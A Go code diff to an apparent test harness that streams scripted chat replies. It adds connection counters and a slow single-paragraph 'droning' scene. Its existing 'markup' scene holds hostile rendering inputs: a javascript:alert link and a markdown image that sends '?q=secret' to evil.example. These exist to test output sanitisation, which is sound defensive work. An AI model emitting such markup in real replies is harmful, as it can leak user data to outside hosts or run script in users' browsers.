@@ -200,7 +200,8 @@ func Start(ctx context.Context, o Options) (*World, error) {
 		return nil, err
 	}
 	settings := httpx.Settings{Log: o.Log}
-	w.server, _ = httpx.NewServer(httpx.Guard(w.Surface, httpx.Guarded{Log: o.Log}), settings)
+	server, counters := httpx.NewServer(httpx.Guard(w.Surface, httpx.Guarded{Log: o.Log}), settings)
+	w.server = server
 	state := w.server.ConnState
 	w.server.ConnState = func(c net.Conn, s http.ConnState) {
 		switch s {
@@ -219,7 +220,7 @@ func Start(ctx context.Context, o Options) (*World, error) {
 		return nil, err
 	}
 	w.URL = "http://" + l.Addr().String()
-	go func() { _ = w.server.Serve(httpx.Listen(l, settings)) }()
+	go func() { _ = w.server.Serve(httpx.Listen(l, settings, counters)) }()
 	return w, nil
 }
 
@@ -312,6 +313,8 @@ func (s *scenes) Stream(ctx context.Context, p gate.Permit, c *conversation.Conv
 		for i := range 40 {
 			text += fmt.Sprintf("%s\n\n", firstSentence(passages[i%len(passages)]))
 		}
+	case strings.Contains(question, "droning"):
+		pace, text = 100*time.Millisecond, strings.Repeat("Visitors help patients to recover. ", 60)
 	case strings.Contains(question, "markup"):
 		text = "The quokka rota is printed on Mondays [7]. " + Payload + "\n\n[click](javascript:alert(1)) and ![image](https://evil.example/x.png?q=secret) and <https://evil.example/auto>【3†source】\n\n" +
 			"| a | " + Payload + " |\n|---|---|\n| 1 | [x][1] |\n\n[1]: https://evil.example/ref\n"
@@ -336,7 +339,11 @@ func (s *scenes) Stream(ctx context.Context, p gate.Permit, c *conversation.Conv
 		if !yield(conversation.Event{Kind: conversation.Started, Model: "scenes"}, nil) {
 			return
 		}
-		for piece := range strings.SplitAfterSeq(text, "\n") {
+		cut := "\n"
+		if strings.Contains(question, "droning") {
+			cut = ". " // one long paragraph
+		}
+		for piece := range strings.SplitAfterSeq(text, cut) {
 			if pace > 0 {
 				select {
 				case <-time.After(pace):
